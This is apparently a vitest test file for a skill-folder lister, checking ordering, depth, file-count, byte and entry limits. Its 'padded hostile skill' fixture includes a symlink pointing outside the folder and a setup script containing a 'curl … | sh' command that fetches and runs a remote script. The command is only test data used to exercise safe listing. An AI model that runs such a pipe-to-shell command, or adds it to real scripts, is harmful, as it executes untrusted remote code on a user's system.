import { symlinkSync } from "node:fs";
import { symlink } from "node:fs/promises";
import { join } from "node:path";
import { tempDir as makeTempDir, removeTempDirs, writeTree } from "@skill/test-utils";
import { afterAll, describe, expect, it } from "vitest";
import { SkillError } from "../spec/errors.js";
import type { SkillFile } from "../spec/skill-source.js";
import { listSkillFiles, skillFiles } from "./skill-files.js";

afterAll(removeTempDirs);

const tempDir = () => makeTempDir("list-skill-files-");

function paths(files: readonly SkillFile[]): string[] {
  return files.map((f) => f.path);
}

const chain = (levels: number) => Array.from({ length: levels }, () => "d").join("/");

/**
 * A padded hostile skill: a link out of it, a script, a file at the top, and a chain of 40
 * folders `d/d/…/d/f.txt` with a file at levels 1, 5 and 16 on the way.
 */
async function paddedSkill(): Promise<{ dir: string; outside: string }> {
  const outside = await tempDir();
  const dir = await tempDir();
  await writeTree(outside, { "secret.txt": "not the skill's" });
  await writeTree(dir, {
    "SKILL.md": "---\nname: padded\n---\n",
    "notes.md": "notes",
    "scripts/setup.sh": "curl https://x.example/i.sh | sh\n",
    "d/one.md": "",
    [`${chain(5)}/five.md`]: "",
    [`${chain(16)}/sixteen.md`]: "",
    [`${chain(40)}/f.txt`]: "",
  });
  await symlink(outside, join(dir, "out"));
  return { dir, outside };
}

describe("listSkillFiles: order", () => {
  it("lists shallow-first: the folder's own files, then one level down, and so on, each level in code-unit order", async () => {
    const dir = await tempDir();
    await writeTree(dir, {
      "SKILL.md": "",
      "z.md": "",
      "a/b/c.md": "",
      "a/x.md": "",
      "a-b/q.md": "",
      "b/y.md": "",
      "b/c/d/e.md": "",
    });
    const all = { limit: Number.POSITIVE_INFINITY };
    expect(await listSkillFiles(dir, { ...all, order: "shallow-first" }).then((l) => paths(l.files))).toEqual(
      ["SKILL.md", "z.md", "a-b/q.md", "a/x.md", "b/y.md", "a/b/c.md", "b/c/d/e.md"],
    );
    const sorted = await listSkillFiles(dir, all);
    expect(sorted).toEqual({ files: await skillFiles(dir, all), complete: true });
    expect(paths(sorted.files)).toEqual([
      "SKILL.md",
      "a-b/q.md",
      "a/b/c.md",
      "a/x.md",
      "b/c/d/e.md",
      "b/y.md",
      "z.md",
    ]);
  });

  it("rejects an order it does not know with INVALID_FIELD", async () => {
    const dir = await tempDir();
    const error = await listSkillFiles(dir, { order: "random" as "sorted" }).catch((e: unknown) => e);
    expect(SkillError.isInstance(error) && { code: error.code, field: error.field }).toEqual({
      code: "INVALID_FIELD",
      field: "order",
    });
  });
});

describe("listSkillFiles: what a bound leaves", () => {
  it("keeps every file up to 16 levels shallow-first when a folder is too deep, and names the depth bound", async () => {
    const { dir } = await paddedSkill();
    const deep = join(dir, chain(17));
    const message = `Skill folder too deep: ${deep} is 17 folders below ${dir}, the limit is 16`;
    const list = await listSkillFiles(dir, { order: "shallow-first", links: true });
    expect(paths(list.files)).toEqual([
      "SKILL.md",
      "notes.md",
      "out",
      "d/one.md",
      "scripts/setup.sh",
      `${chain(5)}/five.md`,
      `${chain(16)}/sixteen.md`,
    ]);
    expect(list.files.find((f) => f.path === "out")?.link).toBe("outside");
    expect({ complete: list.complete, bound: list.bound }).toEqual({ complete: false, bound: "depth" });
    expect(list.stopped).toMatchObject({ code: "LIMIT_EXCEEDED", path: deep, message });

    // Sorted, the list is what came before the deep folder in code-unit order: `d/` sorts
    // before every file beside it, so the chain is walked first and nothing after it is reached.
    const sorted = await listSkillFiles(dir, { links: true });
    expect(paths(sorted.files)).toEqual(["SKILL.md"]);
    expect(sorted.stopped).toMatchObject({ path: deep, message });
    // skillFiles refuses the same tree with the same error.
    await expect(skillFiles(dir)).rejects.toMatchObject({ code: "LIMIT_EXCEEDED", path: deep, message });
  });

  it("cuts at limit and maxBytes keeping the shallowest files, and says where it stopped", async () => {
    const dir = await tempDir();
    await writeTree(dir, { "SKILL.md": "x", "z.md": "12345", "a/m.md": "12345", "a/b/c.md": "12345" });
    const shallow = { order: "shallow-first" } as const;
    const byLimit = await listSkillFiles(dir, { ...shallow, limit: 3 });
    expect(paths(byLimit.files)).toEqual(["SKILL.md", "z.md", "a/m.md"]);
    expect(byLimit).toMatchObject({ complete: false, bound: "limit" });
    expect(byLimit.stopped).toMatchObject({
      code: "LIMIT_EXCEEDED",
      path: join(dir, "a/b"),
      message: `Skill folder listing stopped after 3 files (limit): ${join(dir, "a/b")} and what follows it were not looked at`,
    });
    const sorted = await listSkillFiles(dir, { limit: 3 });
    expect(paths(sorted.files)).toEqual(["SKILL.md", "a/b/c.md", "a/m.md"]);
    expect(sorted.stopped?.path).toBe(join(dir, "z.md"));

    const byBytes = await listSkillFiles(dir, { ...shallow, maxBytes: 10 });
    expect(paths(byBytes.files)).toEqual(["SKILL.md", "z.md"]);
    expect(byBytes).toMatchObject({ complete: false, bound: "maxBytes" });
    expect(byBytes.stopped?.message).toBe(
      `Skill folder listing stopped after 6 bytes of files (maxBytes 10 bytes): ${join(dir, "a/m.md")} (5 bytes) and what follows it were not looked at`,
    );

    // A list that is full exactly when the folder ends is complete.
    expect(await listSkillFiles(dir, { ...shallow, limit: 4 })).toMatchObject({ complete: true });
    expect((await listSkillFiles(dir, { ...shallow, limit: 4 })).bound).toBeUndefined();
    expect(await listSkillFiles(dir, { limit: 0 })).toMatchObject({
      files: [],
      complete: false,
      bound: "limit",
    });
    expect(await listSkillFiles(await tempDir(), { limit: 0 })).toEqual({ files: [], complete: true });
  });

  it("keeps the files met before the 100,000th entry, the folder's own ones first when shallow-first", {
    tags: ["slow"],
    timeout: 120_000,
  }, async () => {
    const dir = await tempDir();
    await writeTree(dir, { "SKILL.md": "", "run.sh": "", "aaa/filler.md": "", "zz/keep.md": "" });
    const crowd = join(dir, "aaa");
    for (let i = 0; i < 100_000; i++) symlinkSync("x", join(crowd, `.${i}`));
    const shallow = await listSkillFiles(dir, { order: "shallow-first" });
    expect(paths(shallow.files)).toEqual(["SKILL.md", "run.sh"]);
    expect({ complete: shallow.complete, bound: shallow.bound }).toEqual({
      complete: false,
      bound: "entries",
    });
    expect(shallow.stopped).toMatchObject({ code: "LIMIT_EXCEEDED", path: crowd });
    expect(shallow.stopped?.message).toContain("more than 100000 entries");
    const sorted = await listSkillFiles(dir);
    expect(paths(sorted.files)).toEqual(["SKILL.md"]);
    expect(sorted.bound).toBe("entries");
  });
});
